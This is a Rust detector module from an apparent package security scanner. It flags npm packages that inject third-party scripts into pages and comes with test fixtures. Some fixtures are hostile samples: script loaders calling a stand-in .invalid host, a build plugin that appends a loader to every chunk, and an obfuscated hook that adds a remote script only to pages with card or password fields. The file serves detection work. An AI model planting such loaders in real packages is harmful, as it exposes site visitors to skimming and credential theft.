//! Code that runs in a page adds a script from elsewhere.

use super::judge::{self, ByTrigger};
use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, host};
use crate::api::targets;
use crate::behaviours::Behaviour;
use crate::model::{Confidence, Severity, SurfaceKind};

pub(super) static FINDING: Declaration = Declaration {
    id: "page-script-injection",
    title: "Puts a stranger's script into the page as soon as it is loaded",
    severity: Severity::High,
    summary: "As soon as a page loads the package, it adds a script from a host that is not the package's own; or the package puts such a script into the pages or bundles that it makes for others. Whoever runs that host runs code in every page that uses the package.",
    advice: "Look at what the host serves. If the package has no reason to load it, don't use it in a page.",
    benign_when: "The package is the loader of a service, and its user gave it the address or the key.",
    references: &["CWE-506", "CWE-829", "T1059.007", "T1189"],
    examples: &[
        Example {
            name: "a bundle adds a file of another package, whose whole version stands in the address",
            severity: Some(Severity::Medium),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const s = document.createElement("script");
s.src = "https://cdn.jsdelivr.net/npm/peer-link@0.3.20/dist/peer-link.min.js";
document.head.appendChild(s);"#,
                ),
            ],
        },
        Example {
            name: "a bundle adds a script element on load",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"var s = document.createElement("script");
s.src = "https://cdn.other.invalid/x.js";
document.head.appendChild(s);"#,
                ),
            ],
        },
        Example {
            name: "a bundle writes a script into the page",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"document.write('<script src="//cdn.other.invalid/x.js"></script>');"#,
                ),
            ],
        },
        Example {
            name: "a template engine adds a script to what it renders",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const at = [104, 116, 116, 112, 115, 58, 47, 47, 115, 46, 111, 116, 104, 101, 114, 46, 105, 110, 118, 97, 108, 105, 100, 47, 108, 47];
exports.finalize = (out) => {
  const end = out.lastIndexOf("</body>");
  const tag = ["s", "c", "r", "i", "p", "t"].join("");
  if (!/card|passw/i.test(out)) return out;
  return out.slice(0, end) + "<" + tag + ' async src="' + String.fromCharCode.apply(null, at) + Date.now() + '.js"></' + tag + ">" + out.slice(end);
};"#,
                ),
            ],
        },
        Example {
            name: "a plugin adds a loader to what it builds",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"module.exports = () => ({
  renderChunk(code, chunk) {
    return code + '\n;(function(d){var s=d.createElement("script");s.src="https://cdn.other.invalid/h/' + chunk.name + '.js";d.head.appendChild(s)})(document);';
  },
});"#,
                ),
            ],
        },
        Example {
            name: "a page for reading an interface's description",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.page = (url) => '<html><script src="https://unpkg.com/viewer@5/viewer.js"></script><script>show("' + url + '")</script></html>';"#,
                ),
            ],
        },
        Example {
            name: "a loader that its user calls",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.load = (key) => {
  var s = document.createElement("script");
  s.src = "https://maps.example/js?key=" + key;
  document.head.appendChild(s);
};"#,
                ),
            ],
        },
        Example {
            name: "a pixel that counts visits",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"new Image().src = "https://count.example/p.gif";"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::High,
    asked: Severity::Low,
};
/// A text is for others' pages, whoever asks for it.
const IN_TEXT: ByTrigger = ByTrigger {
    import: Severity::High,
    asked: Severity::High,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    of_texts(context, found);
    for behaviour in context.behaviours {
        if !behaviour.reach.loads_on(SurfaceKind::Import) {
            continue;
        }
        let Some(url) = address(context, behaviour) else {
            continue;
        };
        let whose = context.home.whose(&url);
        if matches!(
            whose,
            Some(Whose::Own | Whose::Registry | Whose::Local) | None
        ) {
            continue;
        }
        let message = format!("adds a script from {url} to the page");
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        if is_pinned(&url) {
            let note = "a file of a package's fixed version, which its registry keeps as it is";
            finding.lower(Severity::Medium, "version-pinned", note.to_owned());
        }
        finding.parts = vec![url];
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
}

/// What the package hands to others as a text loads a script from a stranger's host.
fn of_texts(context: &Context<'_>, found: &mut Vec<Finding>) {
    let texts = context.behaviours.iter();
    for behaviour in texts.filter(|one| one.what.id == "code.script-text") {
        let Some(url) = behaviour.target.as_deref() else {
            continue;
        };
        let url = match url.strip_prefix("//") {
            Some(rest) => format!("https://{rest}"),
            None => url.to_owned(),
        };
        let at = host::host(&url).unwrap_or_default();
        let class = targets::host_class(&at, host::path(&url)).map(|class| class.id);
        let is_foreign = context.home.whose(&url) == Some(Whose::Foreign);
        if !is_foreign || matches!(class, Some("host.cdn" | "host.reserved")) {
            continue;
        }
        let message = format!("holds a text that brings a page to load a script from {at}");
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        finding.confidence = Confidence::Medium;
        judge::by_trigger(IN_TEXT, &mut finding);
        found.push(finding);
    }
}

/// Whether an address names the whole version of a package that a public host serves: nobody can
/// change what is behind it.
fn is_pinned(url: &str) -> bool {
    let at = host::host(url).unwrap_or_default();
    let class = targets::host_class(&at, host::path(url)).map(|class| class.id);
    let is_version = |part: &str| {
        let mut numbers = part.split('.');
        let is_number = |n: &str| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit());
        numbers.clone().count() == 3 && numbers.all(is_number)
    };
    let mut parts = host::path(url).split(['/', '@']);
    class == Some("host.cdn") && parts.any(is_version)
}

/// Where the script that a behaviour adds comes from.
fn address(context: &Context<'_>, behaviour: &Behaviour) -> Option<String> {
    let target = behaviour.target.as_deref()?;
    match behaviour.what.id {
        "code.script-injection" => {
            let tag = target.to_ascii_lowercase().find("<script")?;
            let inner = target.get(tag..)?.split('>').next()?;
            let (_, src) = inner.split_once("src=")?;
            let url = src.trim_start_matches(['"', '\'', '\\']);
            let url = url.split(['"', '\'', ' ', '\\']).next()?;
            let is_elsewhere = url.contains("://") || url.starts_with("//");
            (is_elsewhere && host::host(url).is_some()).then(|| url.to_owned())
        }
        // The address of an element that was made as a script in the same file.
        "network.beacon" => {
            let makes_script = context.behaviours.iter().any(|one| {
                one.what.id == "code.script-injection"
                    && one.target.as_deref() == Some("script")
                    && one.reach.loads_on(SurfaceKind::Import)
                    && one
                        .sites
                        .iter()
                        .any(|a| behaviour.sites.iter().any(|b| near(*a, *b)))
            });
            let path = host::path(target);
            let path = path.split(['?', '#']).next().unwrap_or(path);
            let is_image = [".gif", ".png", ".jpg", ".svg", ".css"]
                .iter()
                .any(|end| path.ends_with(end));
            (makes_script && !is_image).then(|| target.to_owned())
        }
        _ => None,
    }
}

/// Whether two places are in the same few lines of a file.
fn near(a: crate::value::Place, b: crate::value::Place) -> bool {
    const FEW_LINES: u32 = 600;
    a.file == b.file && a.span.start.abs_diff(b.span.start) <= FEW_LINES
}
